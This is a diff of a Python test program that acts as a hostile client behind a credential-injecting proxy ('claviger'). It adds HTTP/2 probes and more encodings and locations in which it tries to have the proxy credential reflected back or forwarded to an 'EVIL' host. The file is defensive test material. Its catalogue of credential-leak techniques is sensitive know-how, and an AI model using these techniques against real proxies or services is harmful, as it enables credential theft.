@@ -1,8 +1,10 @@
 """A hostile program under `claviger run` that knows only its proxy (G5): tries to have the credential sent to somebody
 else, or to get it back from the API. Prints one JSON object {technique: base64 of all that it received}; whether a
 secret is in it is for the test to say, since the program does not know the secret."""
-import base64, json, os, socket, ssl, subprocess, sys, threading, urllib.parse
+import base64, json, os, pathlib, socket, ssl, subprocess, sys, threading, urllib.parse
 
+HERE = pathlib.Path(__file__).resolve().parent
+NODE = HERE.parent / "peers/node/run"
 PROXY = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
 CREDENTIAL = base64.b64encode(f"{PROXY.username}:{PROXY.password}".encode()).decode()
 BUNDLE = os.environ["SSL_CERT_FILE"]
@@ -43,20 +45,15 @@ def to_proxy(data):
         return bytes(drain(connection, bytearray()))
 
 
-def through(target, data, sni=API, alpn=()):
+def through(target, data, sni=API):
     """CONNECT target, a TLS handshake for `sni`, then the bytes."""
-    own = context
-    if alpn:
-        own = ssl.create_default_context(cafile=BUNDLE)
-        own.check_hostname, own.verify_mode = False, ssl.CERT_NONE
-        own.set_alpn_protocols(list(alpn))
     connection = socket.create_connection((PROXY.hostname, PROXY.port), timeout=20)
     try:
         connection.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nProxy-Authorization: Basic {CREDENTIAL}\r\n\r\n".encode(errors="surrogateescape"))
         got = head_of(connection)
         if b" 200 " not in got.split(b"\r\n")[0]:
             return bytes(got)
-        connection = own.wrap_socket(connection, server_hostname=sni)
+        connection = context.wrap_socket(connection, server_hostname=sni)
         connection.sendall(data)
         return bytes(drain(connection, got))
     except OSError as error:
@@ -67,6 +64,12 @@ def through(target, data, sni=API, alpn=()):
 
 def request(path="/reflect", *lines, host=API, method="GET", version="HTTP/1.1", body=b""):
     return "\r\n".join([f"{method} {path} {version}", f"Host: {host}", *lines, "Connection: close", "", ""]).encode(errors="surrogateescape") + body
+
+
+def http2(path, *arguments, method="GET"):
+    """What a client gets that offers HTTP/2 alone: fields, body and trailers."""
+    done = subprocess.run([NODE, HERE / "clients/http2.mjs", method, f"https://{API}{path}", *arguments], capture_output=True, timeout=60)
+    return done.stdout + done.stderr
 
 
 def curl(*arguments):
@@ -104,13 +107,24 @@ technique("redirect with location-trusted", curl, "-L", "--location-trusted", "-
 technique("a reset link in the page", curl, f"https://{API}/reflect?as=link&where=body")
 
 # -- the API is to give it back -----------------------------------------------------------------------------------------
-ENCODINGS = ["raw", "base64", "base64+1", "base64+2", "base64url", "base64url+1", "hex", "HEX", "percent", "percent-lower", "json", "json-unicode", "html", "html-hex", "html-named", "basic"]
+ENCODINGS = ["raw", "base64", "base64+1", "base64+2", "base64url", "base64url+1", "hex", "HEX", "percent", "percent-lower", "percent-twice", "percent-u", "json", "json-unicode", "js-hex", "octal", "html",
+             "html-hex", "html-padded", "html-named", "basic", "mixed"]
 for encoding in ENCODINGS:
-    for where in ("body", "chunks", "bytes", "header", "location", "cookie"):
-        technique(f"echo {encoding} in {where}", lambda e, w: through(f"{API}:443", request(f"/reflect?as={e.replace('+', '%2B')}&where={w}")), encoding, where)
+    for where in ("body", "chunks", "bytes", "header", "location", "cookie", "trailer"):
+        technique(f"echo {encoding} in {where}", lambda e, w: through(f"{API}:443", request(f"/reflect?as={e.replace('+', '%2B')}&where={w}", "TE: trailers")), encoding, where)
+    for where in ("body", "chunks", "header", "trailer"):
+        technique(f"echo {encoding} in {where} over h2", lambda e, w: http2(f"/reflect?as={e.replace('+', '%2B')}&where={w}"), encoding, where)
 for coding in ("gzip", "deflate", "br", "zstd", "own", "gzip, gzip"):
     technique(f"echo coded {coding}", lambda c: through(f"{API}:443", request(f"/reflect?as=raw&where=coded&coding={urllib.parse.quote(c)}", f"Accept-Encoding: {c}")), coding)
-for where in ("trailer", "reason", "interim", "error", "multipart"):
+for encoding in ("utf-16", "base64-lines"):  # which no field can hold
+    for where in ("body", "chunks"):
+        technique(f"echo {encoding} in {where}", lambda e, w: through(f"{API}:443", request(f"/reflect?as={e}&where={w}")), encoding, where)
+        technique(f"echo {encoding} in {where} over h2", lambda e, w: http2(f"/reflect?as={e}&where={w}"), encoding, where)
+for where in ("interim", "error", "cookie", "location"):
+    technique(f"echo in {where} over h2", lambda w: http2(f"/reflect?as=raw&where={w}"), where)
+technique("another authority over h2", lambda: http2("/reflect?as=raw&where=body", "--authority", EVIL))
+technique("TRACE over h2", lambda: http2("/reflect?as=raw&where=body", method="TRACE"))
+for where in ("reason", "interim", "error", "multipart"):
     technique(f"echo in {where}", lambda w: through(f"{API}:443", request(f"/reflect?as=raw&where={w}", "TE: trailers")), where)
 # Scrubbing keeps gRPC's framing: a service that says gRPC, asked in gRPC or not, is no way around it.
 for where in ("grpc", "grpc-proto", "grpc-web", "grpc-text"):
@@ -120,7 +134,6 @@ for method in ("TRACE", "TRACK", "OPTIONS", "DEBUG", "PROPFIND"):
     technique(f"method {method}", lambda m: through(f"{API}:443", request("/reflect?as=raw&where=body", "Max-Forwards: 0", method=m)), method)
 technique("range", lambda: through(f"{API}:443", request("/reflect?as=raw&where=body", "Range: bytes=0-9999")))
 technique("http 1.0", lambda: through(f"{API}:443", request("/reflect?as=raw&where=body", version="HTTP/1.0")))
-technique("http 2 by ALPN", lambda: through(f"{API}:443", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0", alpn=("h2",)))
 technique("http 2 by its preface", lambda: through(f"{API}:443", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"))
 technique("websocket", lambda: through(f"{API}:443", "\r\n".join(["GET /reflect?as=raw&where=upgrade HTTP/1.1", f"Host: {API}", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "", ""]).encode()))
 technique("upgrade to something", lambda: through(f"{API}:443", "\r\n".join(["GET /reflect?as=raw&where=upgrade HTTP/1.1", f"Host: {API}", "Connection: Upgrade", "Upgrade: raw", "", ""]).encode()))
